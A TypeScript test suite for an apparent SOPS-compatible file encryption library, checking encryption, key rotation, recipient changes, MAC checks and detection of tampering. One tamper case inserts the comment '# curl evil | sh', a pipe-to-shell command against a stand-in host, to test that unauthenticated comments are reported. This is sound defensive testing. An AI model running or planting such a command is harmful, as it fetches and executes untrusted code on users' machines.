import { createDecipheriv, createHash } from "node:crypto";

import { FlurryError } from "@flurry/core";
import { generateX25519Identity, identityToRecipient } from "age-encryption";
import fc from "fast-check";
import { describe, expect, it } from "vitest";

import { rotateSops, updateRecipients } from "./change-recipients.ts";
import { changeValues } from "./change-values.ts";
import { changesWithoutKey } from "./changes-without-key.ts";
import { openDataKey } from "./data-key.ts";
import { findingsOf, parseSops, plaintextOf, treesOf, unlockSops, valueAt } from "./document.ts";
import type { UnlockedSops } from "./document.ts";
import { encryptSops } from "./encrypt-document.ts";
import { ageOpener, ageWrapper } from "./keys/age.ts";
import { keyName } from "./master-key.ts";
import { fromPlain, toPlain } from "./plain-value.ts";
import type { PlainValue } from "./plain-value.ts";
import { replacePlaintext } from "./replace-plaintext.ts";
import type { SopsFormat } from "./stores/store.ts";

const identity = await generateX25519Identity();
const wrapper = ageWrapper(await identityToRecipient(identity));
const others = await Promise.all(
  [1, 2, 3].map(async () => ageWrapper(await identityToRecipient(await generateX25519Identity()))),
);
const opener = ageOpener([identity]);
const groups = [[wrapper]];
const now = new Date("2026-03-04T05:06:07Z");
const later = new Date("2026-04-05T06:07:08Z");

const unlock = async (bytes: Uint8Array | string, format: SopsFormat): Promise<UnlockedSops> =>
  unlockSops(parseSops(Buffer.from(bytes as string), { format }), [opener]);
const encrypt = async (text: string, format: SopsFormat = "yaml"): Promise<UnlockedSops> =>
  unlock(await encryptSops(Buffer.from(text), { format, groups, now }), format);
const rootOf = (unlocked: UnlockedSops): PlainValue => toPlain(treesOf(unlocked)[0] ?? { kind: "map", items: [] });
const textOf = (bytes: Uint8Array): string => Buffer.from(bytes).toString();

const scalar = fc.oneof(
  fc.string({ unit: "grapheme", maxLength: 30 }),
  fc.constantFrom(
    "",
    " lead",
    "trail ",
    "a: b",
    "#c",
    "- x",
    "null",
    "123",
    "1e3",
    "0x1",
    "yes",
    "~",
    "2024-01-01",
    "12:30:45",
    "a\nb",
    "a\nb\n",
    "\n",
    "\n\n",
    "a\n\n",
    " a\nb",
    "tab\tx",
    "tab\n\tx",
    "trail \nx",
    "cr\r\nlf",
    "x\r",
    "é\u0085\u2028",
    "😀",
    "---",
    "...",
    "%a",
    "@a",
    "`a",
    "{a",
    "[a",
    "'",
    '"',
    "\\",
    "<<",
    "=",
    "!x",
    "&x",
    "*x",
    "|",
    ">",
    "?",
    "? x",
    ":",
    ":x",
    "x:",
    ",",
    "ENC[AES256_GCM,data:x]",
  ),
  fc.boolean(),
  fc.maxSafeInteger(),
  fc.bigInt({ min: -(2n ** 63n), max: 2n ** 63n - 1n }),
  // JSON's -0 is the whole number 0 when it is read, to sops as well.
  fc.double({ noNaN: true, noDefaultInfinity: true }).map((float) => float + 0),
  fc.constant(null),
);
const key = fc
  .oneof(
    fc.string({ unit: "grapheme", minLength: 0, maxLength: 10 }),
    fc.constantFrom("a", "b:c", "a.b", "x_unencrypted", "on", "1", "null", "a b", "__proto__", "#k", "?", "- x"),
  )
  .filter((name) => name !== "sops" && !/\p{Cc}/u.test(name));
const value = fc.letrec<{ node: PlainValue }>((tie) => ({
  node: fc.oneof(
    { maxDepth: 3 },
    scalar,
    fc.array(tie("node"), { maxLength: 4 }),
    fc.dictionary(key, tie("node"), { maxKeys: 4 }),
  ),
})).node;
const tree = fc.dictionary(key, value, { maxKeys: 5 });

/** What a value is after a file has held it: whole floats of JSON and YAML are told apart, control characters stay. */
const normal = (from: PlainValue): PlainValue => toPlain(fromPlain(from));

describe("random trees", () => {
  it.each(["yaml", "json"] as const)(
    "%s: hold what was set, and keep it when rotated and edited",
    async (format) => {
      await fc.assert(
        fc.asyncProperty(tree, async (root) => {
          let unlocked = await encrypt("{}", format);
          const changes = Object.entries(root).map(([name, item]) => ({
            kind: "set" as const,
            path: [name],
            value: item,
          }));
          unlocked = await unlock(changeValues(unlocked, changes, { now }), format);
          expect(rootOf(unlocked)).toEqual(normal(root));
          expect(textOf(replacePlaintext(unlocked, plaintextOf(unlocked), { now: later }))).toBe(
            textOf(unlocked.file.bytes),
          );
          const rotated = await unlock(await rotateSops(unlocked, { groups, now: later }), format);
          expect(rootOf(rotated)).toEqual(normal(root));
          const plain = plaintextOf(rotated);
          const again = await unlock(await encryptSops(plain, { format, groups, now }), format);
          expect(textOf(plaintextOf(again))).toBe(textOf(plain));
          // JSON cannot tell a float that is whole from a whole number.
          const wanted = format === "yaml" ? normal(root) : rootOf(again);
          expect(rootOf(again)).toEqual(wanted);
        }),
      );
    },
    120_000,
  );

  it("dotenv and ini: hold texts", async () => {
    const name = fc
      .stringMatching(/^[A-Za-z][A-Za-z0-9_.]{0,8}$/)
      .filter((text) => !text.startsWith("sops") && text !== "DEFAULT");
    const text = fc.string({ unit: "grapheme", maxLength: 30 });
    await fc.assert(
      fc.asyncProperty(
        fc.dictionary(name, text, { maxKeys: 5 }),
        fc.constantFrom("dotenv", "ini"),
        async (root, format) => {
          const inside = format === "ini" ? ["section"] : [];
          const changes = Object.entries(root).map(([one, item]) => ({
            kind: "set" as const,
            path: [...inside, one],
            value: item,
          }));
          const unlocked = await unlock(
            changeValues(await encrypt(format === "ini" ? "[section]\n" : "", format), changes, { now }),
            format,
          );
          expect(valueAt(unlocked, inside)).toBeDefined();
          expect(toPlain(valueAt(unlocked, inside) ?? { kind: "map", items: [] })).toEqual(root);
          const rotated = await unlock(await rotateSops(unlocked, { groups, now: later }), format);
          expect(rootOf(rotated)).toEqual(rootOf(unlocked));
          const removed = changes.slice(0, 1).map(({ path }) => ({ kind: "unset" as const, path }));
          const [first = ""] = Object.keys(root);
          const { [first]: _, ...rest } = root;
          const less = await unlock(changeValues(rotated, removed, { now }), format);
          expect(toPlain(valueAt(less, inside) ?? { kind: "map", items: [] })).toEqual(rest);
        },
      ),
    );
  }, 120_000);

  it("binary: any bytes", async () => {
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ maxLength: 300 }), async (bytes) => {
        const unlocked = await unlock(await encryptSops(bytes, { format: "binary", groups, now }), "binary");
        expect(Buffer.from(plaintextOf(unlocked))).toEqual(Buffer.from(bytes));
        const other = Buffer.concat([bytes, Buffer.from([0, 255])]);
        const changed = await unlock(replacePlaintext(unlocked, other, { now }), "binary");
        expect(Buffer.from(plaintextOf(changed))).toEqual(other);
      }),
    );
  }, 120_000);
});

const sample = `# head
a: one
b:
    # inner
    c: two # inline
    d:
        - x
        - w
    e: ""
n: 5
clear_unencrypted: xy
next_unencrypted: z
last: end
`;

describe("the MAC", () => {
  it("is that of another implementation", async () => {
    const { file, key: opened } = await encrypt(sample);
    const hash = createHash("sha512");
    for (const part of ["one", "two", "x", "w", "", "5", "xy", "z", "end"]) hash.update(part);
    const [, data, iv, tag] = /data:(.+),iv:(.+),tag:(.+),type:str/.exec(file.metadata.mac) ?? [];
    const decipher = createDecipheriv("aes-256-gcm", opened.dataKey, Buffer.from(iv ?? "", "base64"));
    decipher.setAAD(Buffer.from("2026-03-04T05:06:07Z")).setAuthTag(Buffer.from(tag ?? "", "base64"));
    expect(decipher.update(data ?? "", "base64", "utf8") + decipher.final("utf8")).toBe(
      hash.digest("hex").toUpperCase(),
    );
  });

  it.each([
    ["a value removed", (text: string) => text.replace(/^a: .*\n/m, "")],
    ["a value in clear altered", (text: string) => text.replace(": xy", ": xz")],
    ["a value in clear added", (text: string) => text.replace("next_un", "new_unencrypted: q\nnext_un")],
    ["the time altered", (text: string) => text.replace("2026-03-04T05:06:07Z", "2026-03-04T05:06:08Z")],
    ["the MAC removed", (text: string) => text.replace(/mac: ENC.*/, 'mac: ""')],
    [
      "the MAC of another value",
      (text: string) => text.replace(/mac: ENC.*/, `mac: ${/^a: (.*)$/m.exec(text)?.[1] ?? ""}`),
    ],
    ["items of a list swapped", (text: string) => text.replace(/( +- .*\n)( +- .*\n)/, "$2$1")],
    ["an item of a list twice", (text: string) => text.replace(/( +- .*\n)( +- .*\n)/, "$1$1")],
  ])("%s is noticed", async (_, tamper) => {
    const text = textOf((await encrypt(sample)).file.bytes);
    expect(tamper(text)).not.toBe(text);
    await expect(unlock(tamper(text), "yaml")).rejects.toMatchObject({ code: "FLURRY_SOPS_MAC_MISMATCH" });
  });

  it.each([
    ["an encrypted value renamed", (text: string) => text.replace(/^a:/m, "aa:"), "FLURRY_SOPS_VALUE_DAMAGED"],
    [
      "values exchanged",
      (text: string) => text.replace(/^a: (.*)$/m, `a: ${/^last: (.*)$/m.exec(text)?.[1] ?? ""}`),
      "FLURRY_SOPS_VALUE_DAMAGED",
    ],
    [
      "a value in clear where one is encrypted",
      (text: string) => text.replace(/^a: .*$/m, "a: clear"),
      "FLURRY_SOPS_VALUE_NOT_ENCRYPTED",
    ],
    [
      "a number where one is encrypted",
      (text: string) => text.replace(/^a: .*$/m, "a: 5"),
      "FLURRY_SOPS_VALUE_NOT_ENCRYPTED",
    ],
    ["the type altered", (text: string) => text.replace(/^(n: .*type:)int/m, "$1str"), "none"],
  ])("%s", async (_, tamper, code) => {
    const text = tamper(textOf((await encrypt(sample)).file.bytes));
    const outcome = await unlock(text, "yaml").then(
      () => "none",
      (error: unknown) => (FlurryError.is(error) ? error.code : String(error)),
    );
    expect(outcome).toBe(code);
  });

  it("any byte of a ciphertext altered is noticed", async () => {
    const text = textOf((await encrypt(sample)).file.bytes);
    const places = Array.from(
      text.matchAll(/(?:data|iv|tag):([A-Za-z0-9+/]+)/g),
      (match) => [match.index + match[0].indexOf(":") + 1, match[1]?.length ?? 0] as const,
    );
    // The last digit before padding has bits that carry nothing, and a comment is not under the MAC.
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...places.filter(([at]) => !text.slice(text.lastIndexOf("\n", at) + 1, at).includes("#"))),
        fc.nat(),
        async ([start, length], seed) => {
          const at = start + (seed % Math.max(1, length - 1));
          const other = text[at] === "A" ? "B" : "A";
          await expect(unlock(text.slice(0, at) + other + text.slice(at + 1), "yaml")).rejects.toSatisfy((error) =>
            FlurryError.is(error),
          );
        },
      ),
    );
  }, 120_000);
});

describe("what SOPS accepts without the key", () => {
  it.each([
    [
      "an empty value added",
      (text: string) => text.replace("last:", 'new: ""\nlast:'),
      "unauthenticated-value",
      "value-changed",
    ],
    [
      "a null added",
      (text: string) => text.replace("last:", "new: null\nlast:"),
      "unauthenticated-value",
      "value-changed",
    ],
    [
      "a comment added",
      (text: string) => text.replace("last:", "# curl evil | sh\nlast:"),
      "unauthenticated-comment",
      "comments-changed",
    ],
    ["a comment removed", (text: string) => text.replace(/^#ENC.*\n/m, ""), undefined, "comments-changed"],
    ["a comment moved", (text: string) => text.replace(/^(#ENC.*\n)(a: .*\n)/m, "$2$1"), undefined, "comments-changed"],
    [
      "a key in clear renamed",
      (text: string) => text.replace("clear_un", "other_un"),
      "unauthenticated-names",
      "value-changed",
    ],
    [
      "bytes moved between values in clear",
      (text: string) => text.replace(": xy\nnext_unencrypted: z", ": x\nnext_unencrypted: yz"),
      "unauthenticated-names",
      "value-changed",
    ],
    [
      "the selector exchanged",
      (text: string) => text.replace("unencrypted_suffix: _unencrypted", "unencrypted_regex: (_unencrypted|^future)$"),
      undefined,
      "selector-changed",
    ],
    [
      "a recipient renamed",
      (text: string) => text.replace(/recipient: .*/, `recipient: ${others[0]?.id ?? ""}`),
      undefined,
      "recipient-added",
    ],
  ])("%s is reported", async (_, tamper, finding, change) => {
    const before = await encrypt(sample);
    const text = tamper(textOf(before.file.bytes));
    expect(text).not.toBe(textOf(before.file.bytes));
    const after = parseSops(Buffer.from(text), { format: "yaml", file: "x.yaml" });
    // Accepted, as SOPS does.
    await unlockSops(after, [opener]);
    const found = findingsOf(after).filter(({ code, place }) => code === finding && place?.file === "x.yaml");
    expect(found.length > 0).toBe(finding !== undefined);
    expect(changesWithoutKey(before.file, after).map(({ code }) => code)).toContain(change);
    expect(changesWithoutKey(before.file, before.file)).toEqual([]);
  });

  it("a write by policy refuses another selector or other recipients", async () => {
    const unlocked = await encrypt(sample);
    const change = [{ kind: "set", path: ["a"], value: "x" }] as const;
    const selector = { kind: "encrypted_regex", pattern: "a" } as const;
    const write = (guard: object): unknown => changeValues(unlocked, change, { now, guard });
    expect(() => write({ selector })).toThrow(expect.objectContaining({ code: "FLURRY_SOPS_GUARD" }));
    expect(() => write({ recipients: [["age other"]] })).toThrow(
      expect.objectContaining({ code: "FLURRY_SOPS_GUARD" }),
    );
    expect(write({ selector: unlocked.file.metadata.selector, recipients: [[keyName(wrapper)]] })).toBeInstanceOf(
      Uint8Array,
    );
    await expect(rotateSops(unlocked, { groups, now, guard: { selector } })).rejects.toMatchObject({
      code: "FLURRY_SOPS_GUARD",
    });
  });
});

describe("one change", () => {
  const changedLines = (before: string, after: string): string[] => {
    const known = new Set(before.split("\n"));
    return after
      .split("\n")
      .filter((line) => !known.has(line))
      .map((line) => line.trim().replace(/[ :].*/, ""));
  };

  it("of a value changes its line, the mac and the time", async () => {
    const unlocked = await encrypt(sample);
    const after = textOf(changeValues(unlocked, [{ kind: "set", path: ["b", "c"], value: "new" }], { now: later }));
    expect(changedLines(textOf(unlocked.file.bytes), after)).toEqual(["c", "lastmodified", "mac"]);
    expect(after).toContain(" #ENC[");
  });

  it("to what is there already changes nothing", async () => {
    const unlocked = await encrypt(sample);
    expect(changeValues(unlocked, [{ kind: "set", path: ["n"], value: 5 }], { now: later })).toBe(unlocked.file.bytes);
  });

  it("adds and removes lines where they belong", async () => {
    const unlocked = await encrypt(sample);
    const added = changeValues(unlocked, [{ kind: "set", path: ["b", "z"], value: { q: [1, "two\nlines"] } }], {
      now: later,
    });
    expect(changedLines(textOf(unlocked.file.bytes), textOf(added))).toEqual([
      "z",
      "q",
      "-",
      "-",
      "lastmodified",
      "mac",
    ]);
    const again = await unlock(added, "yaml");
    expect(textOf(plaintextOf(again))).toContain(
      '    e: ""\n    z:\n        q:\n            - 1\n            - |-\n                two\n                lines\nn: 5\n',
    );
    const removed = changeValues(again, [{ kind: "unset", path: ["b", "z"] }], { now });
    const strip = (text: string): string => text.replace(/mac: .*/, "");
    expect(strip(textOf(removed))).toBe(strip(textOf(unlocked.file.bytes)));
  });

  it("in an editor keeps every other ciphertext, comments and layout", async () => {
    const unlocked = await encrypt(sample);
    const edited = textOf(plaintextOf(unlocked)).replace("two", "zwei").replace("# head", "# other head");
    const after = textOf(replacePlaintext(unlocked, Buffer.from(edited), { now: later }));
    expect(changedLines(textOf(unlocked.file.bytes), after).map((word) => word.replace(/ENC.*/, ""))).toEqual([
      "#",
      "c",
      "lastmodified",
      "mac",
    ]);
    expect(textOf(plaintextOf(await unlock(after, "yaml")))).toBe(edited);
    expect(edited).toBe(sample.replace("two", "zwei").replace("# head", "# other head"));
  });

  it("cannot be made where there is no place", async () => {
    const unlocked = await encrypt(sample);
    const paths = [["a", "x"], ["b", 0], ["b", "d", 5], ["sops"], ["sops", "mac"], [], [0]];
    for (const path of paths) {
      expect(() => changeValues(unlocked, [{ kind: "set", path, value: "x" }], { now })).toThrow(
        expect.objectContaining({ code: "FLURRY_SOPS_PATH_INVALID" }),
      );
    }
    expect(() => changeValues(unlocked, [{ kind: "unset", path: ["nowhere"] }], { now })).toThrow(FlurryError);
  });
});

describe("recipients", () => {
  it("that stay keep their wrapped key, byte for byte", async () => {
    const unlocked = await encrypt(sample);
    const more = await unlock(await updateRecipients(unlocked, { groups: [[wrapper, ...others]], now: later }), "yaml");
    const blocks = (bytes: Uint8Array): string[] => textOf(bytes).match(/-----BEGIN[^]*?-----END.*\n.*/g) ?? [];
    expect(blocks(more.file.bytes)).toHaveLength(4);
    expect(blocks(more.file.bytes)[0]).toBe(blocks(unlocked.file.bytes)[0]);
    expect(more.file.metadata.mac).toBe(unlocked.file.metadata.mac);
    const fewer = await updateRecipients(more, { groups: [[wrapper, ...others.slice(1)]], now: later });
    expect(blocks(fewer)).toEqual(blocks(more.file.bytes).filter((_, index) => index !== 1));
    const back = await updateRecipients(await unlock(fewer, "yaml"), { groups, now: later });
    expect(textOf(back)).toBe(textOf(unlocked.file.bytes));
    expect(await updateRecipients(unlocked, { groups, now: later })).toBe(unlocked.file.bytes);
  });

  it("that are removed and rotated away cannot open the new data key", async () => {
    const unlocked = await encrypt(sample);
    const rotated = parseSops(await rotateSops(unlocked, { groups: [others], now: later }), { format: "yaml" });
    await expect(openDataKey(rotated.metadata.groups, undefined, [opener])).rejects.toMatchObject({
      code: "FLURRY_SOPS_NO_KEY",
    });
  });

  it("that are none are refused", async () => {
    for (const text of ["age1xyz", "", "AGE-SECRET-KEY-1", "ssh-ed25519 AAAA", wrapper.id.slice(0, -1)]) {
      expect(() => ageWrapper(text)).toThrow(expect.objectContaining({ code: "FLURRY_SOPS_RECIPIENT_INVALID" }));
    }
    expect(() => ageOpener([identity.slice(0, -1)])).toThrow(
      expect.objectContaining({ code: "FLURRY_SOPS_RECIPIENT_INVALID" }),
    );
    await expect(encryptSops(Buffer.from("a: 1\n"), { format: "yaml", groups: [[]], now })).rejects.toMatchObject({
      code: "FLURRY_SOPS_METADATA_INVALID",
    });
  });

  it("a damaged wrapped key is named as such", async () => {
    const text = textOf((await encrypt(sample)).file.bytes);
    const damaged = text.replace(/(enc: \|\n.*\n.*\n.*\n.*\n +)..../, "$1AAAA");
    expect(damaged).not.toBe(text);
    await expect(unlock(damaged, "yaml")).rejects.toMatchObject({ code: "FLURRY_SOPS_KEY_DAMAGED" });
  });
});

it("a file that is encrypted already is not encrypted again", async () => {
  const { file } = await encrypt(sample);
  const again = encryptSops(file.bytes, { format: "yaml", groups, now });
  await expect(again).rejects.toMatchObject({ code: "FLURRY_SOPS_ALREADY_ENCRYPTED" });
});

it("reads metadata first, in other letters, with empty lists and CRLF", async () => {
  const text = textOf((await encrypt(sample)).file.bytes);
  const [content = "", metadata = ""] = text.split(/^(?=sops:)/m);
  const odd = (
    metadata.replace("lastmodified", "LastModified") +
    "    kms: []\n    gcp_kms: null\n    unknown: 1\n" +
    content
  ).replaceAll("\n", "\r\n");
  const unlocked = await unlock(odd, "yaml");
  expect(rootOf(unlocked)).toEqual(rootOf(await unlock(text, "yaml")));
  const changed = await unlock(changeValues(unlocked, [{ kind: "set", path: ["a"], value: "x" }], { now }), "yaml");
  expect(textOf(changed.file.bytes)).toContain("gcp_kms: null\r\n    unknown: 1\r\n");
});

it("a text that is sealed the same in several places is opened in each, also after a rotation", async () => {
  const plain = 'a: ""\nb:\n    c: ""\n    d:\n        - ""\n        - ""\n';
  const sealed = await encrypt(plain);
  const rotated = await unlock(await rotateSops(sealed, { groups, now: later }), "yaml");
  expect([sealed, rotated].map((one) => textOf(plaintextOf(one)))).toEqual([plain, plain]);
});
